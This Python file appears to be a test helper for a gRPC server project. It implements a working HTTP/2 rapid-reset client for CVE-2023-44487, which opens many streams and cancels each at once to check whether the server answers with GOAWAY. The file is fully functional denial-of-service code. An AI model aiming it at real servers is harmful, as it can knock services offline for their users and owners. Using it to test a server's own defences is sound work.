"""A rapid-reset client (CVE-2023-44487), run as its own process (``python -m
tests.helpers.resets``): on each of ``connections`` raw HTTP/2 connections it opens
``streams`` gRPC calls (HEADERS, then DATA) and resets each at once (RST_STREAM CANCEL), as
fast as the socket takes them. Prints one JSON line: frames sent, and what the server sent
back (its GOAWAY, if any, and the error code)."""

from __future__ import annotations

import argparse
import json
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, DATA, RST_STREAM, GOAWAY = 0x4, 0x1, 0x0, 0x3, 0x7
END_HEADERS, END_STREAM = 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header without indexing (no Huffman): lengths below 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(authority: bytes) -> bytes:
    return b"".join(literal(n, v) for n, v in (
        (b":method", b"POST"), (b":scheme", b"http"),
        (b":path", b"/copas.v1.CopasService/ListTables"), (b":authority", authority),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def run(host: str, port: int, streams: int, results: dict[str, object]) -> None:
    sock = socket.create_connection((host, port))
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    block = call_headers(f"{host}:{port}".encode())
    message = frame(DATA, END_STREAM, 0, b"")[:0]
    received = bytearray()
    closed = threading.Event()

    def read() -> None:
        try:
            while chunk := sock.recv(1 << 16):
                received.extend(chunk)
        except OSError:
            pass
        closed.set()

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    sent = 0
    try:
        for i in range(streams):
            stream = 2 * i + 1
            message = frame(HEADERS, END_HEADERS, stream, block) + \
                frame(DATA, END_STREAM, stream, b"\x00\x00\x00\x00\x00") + \
                frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            sock.sendall(message)
            sent += 1
            if closed.is_set():
                break
    except OSError:
        pass
    closed.wait(5)
    sock.close()
    goaway = None
    at = 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at:at + 3], "big")
        if received[at + 3] == GOAWAY and length >= 8:
            goaway = int.from_bytes(received[at + 13:at + 17], "big")
        at += 9 + length
    results.setdefault("sent", []).append(sent)  # type: ignore[union-attr]
    results.setdefault("goaway", []).append(goaway)  # type: ignore[union-attr]


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--streams", type=int, default=100_000)
    parser.add_argument("--connections", type=int, default=2)
    args = parser.parse_args()
    results: dict[str, object] = {}
    began = time.monotonic()
    threads = [threading.Thread(target=run, args=(args.host, args.port, args.streams, results))
               for _ in range(args.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    results["seconds"] = round(time.monotonic() - began, 3)
    print(json.dumps(results), flush=True)


if __name__ == "__main__":
    main()
